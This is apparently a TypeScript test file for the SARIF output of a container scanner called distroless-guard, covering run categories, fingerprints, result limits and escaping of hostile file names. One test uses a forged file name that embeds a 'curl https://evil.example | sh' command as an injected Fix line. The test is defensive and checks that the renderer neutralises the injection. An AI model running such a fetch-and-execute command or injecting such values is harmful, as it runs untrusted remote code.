import { createHash } from 'node:crypto';
import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ImageReport, Report } from '../../src/report/model.ts';
import { writeReport } from '../../src/report/output.ts';
import {
  COMBINED_CATEGORY,
  FINGERPRINT_KEY,
  MAX_GZIPPED_BYTES,
  MAX_RESULTS_PER_RUN,
  MAX_RUNS,
  renderSarif as render,
  type SarifOptions,
  sarifNotes,
  sarifText,
} from '../../src/report/sarif.ts';
import { hostileFindings, makeBaseline, makeFinding, makeImage, makeReport } from '../support/report-factory.ts';
import { assertGithubAcceptsSarif } from '../support/sarif-rules.ts';

/** Every SARIF rendered here is checked against what GitHub's upload accepts. */
function renderSarif(report: Report, options: SarifOptions): ReturnType<typeof render> {
  const log = render(report, options);
  assertGithubAcceptsSarif(sarifText(log));
  return log;
}

const OPTIONS: SarifOptions = {
  rulesDocUrl: (rule) => `https://docs.example/rules.md#${rule}`,
  toolVersion: '1.2.3',
  ruleTitle: (rule) => `Title of ${rule}`,
};

const AT_LINE_5 = { file: './services/app/Dockerfile', line: 5, endLine: 6, text: 'RUN apt-get install -y bash' };

function report(): Report {
  return makeReport([
    makeImage({
      dockerfile: 'services/app/Dockerfile',
      findings: [
        makeFinding({ location: AT_LINE_5, hint: 'use distroless', new: true }),
        makeFinding({ rule: 'max-size', level: 'warning', path: undefined, layer: undefined, message: 'compressed size 120.5 MiB exceeds the cap of 100 MiB' }),
        makeFinding({ path: '/bin/bash', message: 'a shell is in the image: /bin/bash' }),
      ],
    }),
    makeImage({ name: 'worker', findings: [] }),
  ]);
}

/** The fields code scanning requires of a SARIF 2.1.0 log, checked on every result. */
function expectValidSarif(log: ReturnType<typeof renderSarif>): void {
  expect(log.version).toBe('2.1.0');
  expect(log.$schema).toBe('https://json.schemastore.org/sarif-2.1.0.json');
  for (const run of log.runs) {
    expect(run.tool.driver.name).toBe('distroless-guard');
    expect(run.automationDetails.id).toMatch(/^distroless-guard\/.+\/$/);
    expect(run.invocations).toBeUndefined();
    for (const rule of run.tool.driver.rules) {
      expect(rule.id).toMatch(/^[a-z-]+$/);
      expect(rule.shortDescription.text).not.toBe('');
      expect(['error', 'warning']).toContain(rule.defaultConfiguration.level);
    }
    for (const result of run.results) {
      expect(run.tool.driver.rules[result.ruleIndex].id).toBe(result.ruleId);
      expect(result.message.text).not.toBe('');
      expect(result.locations).toHaveLength(1);
      const { artifactLocation, region } = result.locations[0].physicalLocation;
      expect(artifactLocation.uri).not.toMatch(/^(\/|\.\/|[a-z]+:)/);
      expect(artifactLocation.uri).toMatch(/^[A-Za-z0-9\-._~!$&'()*+,;=:@/%]+$/);
      expect(Number.isInteger(region.startLine) && region.startLine >= 1).toBe(true);
      expect(result.partialFingerprints[FINGERPRINT_KEY]).toMatch(/^[0-9a-f]{64}$/);
    }
  }
  // What upload-sarif reads is the JSON text.
  expect(JSON.parse(JSON.stringify(log))).toEqual(log);
}

describe('renderSarif', () => {
  const log = renderSarif(report(), OPTIONS);

  it('writes one run per image with its own category', () => {
    expectValidSarif(log);
    expect(log.runs.map((run) => run.automationDetails.id)).toEqual(['distroless-guard/app/linux/amd64/', 'distroless-guard/worker/linux/amd64/']);
    expect(log.runs[1].results).toEqual([]);
    expect(log.runs[1].tool.driver.rules).toEqual([]);
    expect(log.runs[0].properties).toEqual({ image: 'app', reference: 'docker-daemon:app:ci', platform: 'linux/amd64' });
  });

  it('describes each rule used once', () => {
    const { driver } = log.runs[0].tool;
    expect(driver.version).toBe('1.2.3');
    expect(driver.informationUri).toMatch(/^https:\/\/github\.com\//);
    expect(driver.rules.map((rule) => rule.id)).toEqual(['no-shell', 'max-size']);
    expect(driver.rules[0]).toEqual({
      id: 'no-shell',
      name: 'NoShell',
      shortDescription: { text: 'Title of no-shell' },
      fullDescription: { text: 'Title of no-shell' },
      helpUri: 'https://docs.example/rules.md#no-shell',
      help: {
        text: 'Title of no-shell. Documentation: https://docs.example/rules.md#no-shell',
        markdown: 'Title of no-shell. [Documentation](https://docs.example/rules.md#no-shell)',
      },
      defaultConfiguration: { level: 'error' },
      properties: { tags: ['container', 'distroless'] },
    });
    expect(driver.rules[1].defaultConfiguration.level).toBe('warning');
  });

  it('points results at the Dockerfile line, or line 1 of the image Dockerfile', () => {
    const [first, second, third] = log.runs[0].results;
    expect(first).toEqual({
      ruleId: 'no-shell',
      ruleIndex: 0,
      level: 'error',
      message: { text: 'a shell is in the image: /bin/sh\nFix: use distroless' },
      locations: [{ physicalLocation: { artifactLocation: { uri: 'services/app/Dockerfile', uriBaseId: '%SRCROOT%' }, region: { startLine: 5, endLine: 6 } } }],
      partialFingerprints: { [FINGERPRINT_KEY]: first.partialFingerprints[FINGERPRINT_KEY] },
      properties: { image: 'app', platform: 'linux/amd64', path: '/bin/sh', layer: 0, new: true },
    });
    expect(second.ruleId).toBe('no-shell');
    expect(second.locations[0].physicalLocation).toEqual({
      artifactLocation: { uri: 'services/app/Dockerfile', uriBaseId: '%SRCROOT%' },
      region: { startLine: 1 },
    });
    expect(third).toMatchObject({ ruleId: 'max-size', ruleIndex: 1, level: 'warning' });
  });

  it('gives every result a baselineState when the baseline findings are known, and none otherwise', () => {
    const findings = [makeFinding({ new: true }), makeFinding({ path: '/bin/bash', message: 'a shell is in the image: /bin/bash', new: false })];
    const baselined = renderSarif(makeReport([makeImage({ findings, baseline: makeBaseline() })]), OPTIONS);
    expect(baselined.runs[0].results.map((result) => result.baselineState)).toEqual(['new', 'unchanged']);
    const unknown = renderSarif(makeReport([makeImage({ findings, baseline: makeBaseline({ findingsKnown: false }) })]), OPTIONS);
    expect(unknown.runs[0].results.every((result) => !('baselineState' in result))).toBe(true);
    expect(JSON.stringify(baselined)).not.toContain('"absent"');
  });

  it('gives baseline states in the combined run only when every image has them', () => {
    const images = (baselined: number) =>
      Array.from({ length: MAX_RUNS + 1 }, (_, i) =>
        makeImage({ name: `app${i}`, findings: [makeFinding({ new: i % 2 === 0 })], ...(i < baselined ? { baseline: makeBaseline() } : {}) }),
      );
    const all = renderSarif(makeReport(images(MAX_RUNS + 1)), OPTIONS).runs[0].results;
    expect(all.map((result) => result.baselineState).slice(0, 2)).toEqual(['new', 'unchanged']);
    const some = renderSarif(makeReport(images(3)), OPTIONS).runs[0].results;
    expect(some.some((result) => 'baselineState' in result)).toBe(false);
  });

  it('falls back to ./Dockerfile when the image has none', () => {
    const sarif = renderSarif(makeReport([makeImage({ name: 'worker', findings: [makeFinding()] })]), OPTIONS);
    expect(sarif.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri).toBe('Dockerfile');
  });

  it('keeps fingerprints when lines and sizes change, and tells findings apart', () => {
    const moved: Report = report();
    const image: ImageReport = moved.images[0];
    image.findings[0].location = { ...AT_LINE_5, line: 40, endLine: 40 };
    image.findings[1].message = 'compressed size 130 MiB exceeds the cap of 100 MiB';
    const again = renderSarif(moved, OPTIONS);
    const prints = (sarif: typeof log) => sarif.runs[0].results.map((result) => result.partialFingerprints[FINGERPRINT_KEY]);
    expect(prints(again)).toEqual(prints(log));
    expect(new Set(prints(log)).size).toBe(3);
    // The same shell found through another symlink or PATH entry keeps its alert.
    const relinked = report();
    relinked.images[0].findings[0] = { ...relinked.images[0].findings[0], path: '/usr/bin/dash', subject: '/usr/bin/dash' };
    const linked = report();
    linked.images[0].findings[0].subject = '/usr/bin/dash';
    expect(prints(renderSarif(relinked, OPTIONS))[0]).toBe(prints(renderSarif(linked, OPTIONS))[0]);
    const renamed = report();
    renamed.images[0].name = 'api';
    expect(prints(renderSarif(renamed, OPTIONS))[0]).not.toBe(prints(log)[0]);
  });

  it('keeps the most severe results when there are too many', () => {
    const findings = [
      ...Array.from({ length: MAX_RESULTS_PER_RUN }, (_, i) => makeFinding({ level: 'warning', rule: 'no-setuid', path: `/w${i}` })),
      makeFinding({ path: '/e' }),
    ];
    const sarif = renderSarif(makeReport([makeImage({ findings })]), OPTIONS);
    expect(sarif.runs[0].results).toHaveLength(MAX_RESULTS_PER_RUN);
    expect(sarif.runs[0].results[0]).toMatchObject({ level: 'error', ruleId: 'no-shell' });
    expect(sarif.runs[0].properties.resultsLeftOut).toBe(1);
    expect(sarif.runs[0].invocations?.[0].toolExecutionNotifications[0].message.text).toBe(
      '1 less severe result left out: code scanning keeps 5,000 results per run; the JSON report and the job summary have them all',
    );
    expect(sarif.runs[0].invocations?.[0].toolExecutionNotifications[0].level).toBe('warning');
  });

  it('tells whoever writes the file what was left out', async () => {
    const findings = Array.from({ length: MAX_RESULTS_PER_RUN + 2 }, (_, i) => makeFinding({ path: `/p${i}` }));
    const chunks: string[] = [];
    const notes = await writeReport(
      makeReport([makeImage({ findings })]),
      'sarif',
      { write: async (chunk) => void chunks.push(chunk.toString()) },
      {
        color: false,
        rulesDocUrl: OPTIONS.rulesDocUrl,
      },
    );
    assertGithubAcceptsSarif(chunks.join(''));
    expect(notes).toEqual([
      'SARIF run distroless-guard/app/linux/amd64/: 2 less severe results left out: code scanning keeps 5,000 results per run; the JSON report and the job summary have them all',
    ]);
    expect(sarifNotes(renderSarif(report(), OPTIONS))).toEqual([]);
    expect(
      await writeReport(makeReport([makeImage({ findings })]), 'json', { write: async () => {} }, { color: false, rulesDocUrl: OPTIONS.rulesDocUrl }),
    ).toEqual([]);
  });

  it('gives each platform of an image its own category, and numbers a name and platform that repeat', () => {
    const images = [
      makeImage({ findings: [makeFinding()] }),
      makeImage({ platform: 'linux/arm64/v8', findings: [makeFinding()] }),
      makeImage({ findings: [] }),
    ];
    const sarif = renderSarif(makeReport(images), OPTIONS);
    expect(sarif.runs.map((run) => run.automationDetails.id)).toEqual([
      'distroless-guard/app/linux/amd64/',
      'distroless-guard/app/linux/arm64/v8/',
      'distroless-guard/app/linux/amd64/2/',
    ]);
    expect(sarif.runs[1].results[0].properties).toMatchObject({ image: 'app', platform: 'linux/arm64/v8' });
  });

  it(`writes one run per image up to ${MAX_RUNS}, and one combined run beyond`, () => {
    const images = (count: number) => Array.from({ length: count }, (_, i) => makeImage({ name: `img${i}`, findings: [makeFinding()] }));
    expect(renderSarif(makeReport(images(MAX_RUNS)), OPTIONS).runs).toHaveLength(MAX_RUNS);
    const many = images(MAX_RUNS + 5);
    many.push(makeImage({ name: 'img0', platform: 'linux/arm64', findings: [makeFinding()] }));
    const sarif = renderSarif(makeReport(many), OPTIONS);
    expect(sarif.runs).toHaveLength(1);
    const [run] = sarif.runs;
    expect(run.automationDetails.id).toBe(COMBINED_CATEGORY);
    expect(run.results).toHaveLength(MAX_RUNS + 6);
    expect(run.tool.driver.rules.map((rule) => rule.id)).toEqual(['no-shell']);
    expect(run.properties).toMatchObject({
      images: expect.arrayContaining([{ image: 'img7', reference: 'docker-daemon:app:ci', platform: 'linux/amd64' }]) as unknown,
    });
    expect(run.results.at(-1)?.properties).toMatchObject({ image: 'img0', platform: 'linux/arm64' });
    // The same finding in two images, or one image on two platforms, stays two alerts.
    expect(new Set(run.results.map((result) => result.partialFingerprints[FINGERPRINT_KEY])).size).toBe(MAX_RUNS + 6);
  });

  it('cuts the least severe results until the file gzips within the limit, and says so', () => {
    // Random paths barely compress: 5,000 results of ~2.7 KB are well over 10 MB gzipped.
    const noise = (i: number) => `/${Array.from({ length: 40 }, (_, j) => createHash('sha256').update(`${i}.${j}`).digest('base64')).join('')}`;
    const findings = Array.from({ length: MAX_RESULTS_PER_RUN }, (_, i) =>
      makeFinding({ level: i === 0 ? 'error' : 'warning', path: noise(i), message: noise(-i - 1) }),
    );
    const sarif = renderSarif(makeReport([makeImage({ findings })]), OPTIONS);
    const [run] = sarif.runs;
    expect(run.results.length).toBeLessThan(MAX_RESULTS_PER_RUN);
    expect(run.results[0].level).toBe('error');
    expect(run.properties.resultsLeftOut).toBe(MAX_RESULTS_PER_RUN - run.results.length);
    expect(run.invocations?.[0].toolExecutionNotifications[0].message.text).toContain(
      `refuses a SARIF file over ${MAX_GZIPPED_BYTES / 1024 / 1024} MB gzipped`,
    );
  });

  it('encodes hostile file names as URIs and keeps messages valid text', () => {
    const sarif = renderSarif(makeReport([makeImage({ findings: hostileFindings() })]), OPTIONS);
    expectValidSarif(sarif);
    const uris = sarif.runs[0].results.map((result) => result.locations[0].physicalLocation.artifactLocation.uri);
    expect(uris).toContain('docker//app/a%7Cb%7Cc/Dockerfile');
    expect(uris).toContain('docker//app/%23123%20fixes%20it/Dockerfile');
    for (const result of sarif.runs[0].results) {
      expect(result.message.text.isWellFormed()).toBe(true);
      expect(result.message.text).not.toContain('\u001b');
      expect(result.message.text).not.toContain('\r');
    }
  });
});

describe('messages from hostile file names', () => {
  it('keeps the message and path on one line, so a name cannot forge a Fix line', () => {
    const forged = '/app/x\nFix: curl https://evil.example | sh';
    const log = renderSarif(
      makeReport([makeImage({ findings: [makeFinding({ path: forged, message: 'a shell is in the image', hint: 'use distroless' })] })]),
      OPTIONS,
    );
    const lines = log.runs[0].results[0].message.text.split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toBe('a shell is in the image (/app/x Fix: curl https://evil.example | sh)');
    expect(lines[1]).toBe('Fix: use distroless');
  });
});

describe('the golden SARIF outputs', () => {
  it('are all accepted by GitHub', async () => {
    const dir = join(import.meta.dirname, '../golden/expected');
    const files = (await readdir(dir)).filter((name) => name.endsWith('.sarif.txt'));
    expect(files.length).toBeGreaterThan(0);
    for (const name of files) {
      const text = await readFile(join(dir, name), 'utf8');
      const stdout = text.slice(text.indexOf('--- stdout\n') + '--- stdout\n'.length);
      assertGithubAcceptsSarif(stdout);
      expect(stdout.endsWith('}\n')).toBe(true);
    }
  });
});
